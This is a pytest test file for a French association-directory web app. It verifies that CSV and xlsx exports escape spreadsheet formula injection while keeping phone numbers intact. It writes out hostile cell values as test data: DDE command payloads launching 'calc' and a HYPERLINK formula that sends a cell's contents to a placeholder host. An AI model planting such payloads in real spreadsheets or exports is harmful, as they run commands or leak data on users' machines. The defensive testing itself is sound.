"""M4 (issue 17): no formula injection in any CSV/xlsx export; legitimate numbers stay."""

import csv
import io

import openpyxl
import pytest

from assonum.core.spreadsheets import neutralise_cell

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")'


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("- ateliers le mardi", "'- ateliers le mardi"),
    ("+", "'+"),
    # Legitimate values are kept (the directory's Table Schema needs them as written).
    ("+33 2 48 96 00 00", "+33 2 48 96 00 00"),
    ("+33254000001", "+33254000001"),
    ("+33254000001|+33254000002", "+33254000001|+33254000002"),
    ("-1.5", "-1.5"),
    ("+33 (0)2 47 00 00 00", "+33 (0)2 47 00 00 00"),
    ("Fab lab de Déols", "Fab lab de Déols"),
    ("", ""),
    (12, 12),
    (None, None),
])
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_public_directory_export_is_neutralised_and_still_valid(client, tmp_path):
    from tests.directory.factories import PlaceFactory
    from tests.directory.test_export import validate
    from tests.territory.factories import make_real_communes

    make_real_communes(["18033"])
    PlaceFactory(nom=HYPERLINK, commune_nom="Bourges", code_insee="18033", commune_id="18033",
                 code_postal="18000", telephones=["+33248000000"],
                 presentation_resume="@SUM(1+1)*cmd|' /C calc'!A0")
    response = client.get("/annuaire/export.csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    row = next(csv.DictReader(io.StringIO(body)))
    assert row["nom"] == "'" + HYPERLINK
    assert row["presentation_resume"].startswith("'@SUM")
    assert row["telephone"] == "+33248000000"  # a phone number stays as the schema wants it
    path = tmp_path / "export.csv"
    path.write_text(body, encoding="utf-8")
    report = validate(path)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])


def _content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_organisations_and_subscribers_exports_are_neutralised(staff_client):
    from tests.newsletter.factories import SubscriberFactory
    from tests.organisations.factories import OrganisationFactory

    OrganisationFactory(name="=1+2 Asso", public_phone="+33 2 47 00 00 00")
    SubscriberFactory(email="-2+3@exemple.org")
    response = staff_client.get("/admin/organisations/?export=csv")
    rows = list(csv.reader(io.StringIO(_content(response).decode("utf-8-sig"))))
    header = rows[0]
    row = rows[1]
    assert row[header.index("Nom")] == "'=1+2 Asso"
    assert row[header.index("Téléphone public")] in ("+33 2 47 00 00 00", "+33247000000")
    response = staff_client.get("/admin/organisations/?export=xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(_content(response))).active
    cell = next(c for c in sheet["A"] if c.value and "Asso" in str(c.value))
    assert cell.data_type == "s"  # text, never a formula
    response = staff_client.get("/admin/snippets/newsletter/subscriber/?export=csv")
    assert response.status_code == 200
    body = _content(response).decode("utf-8-sig")
    assert "'-2+3@exemple.org" in body
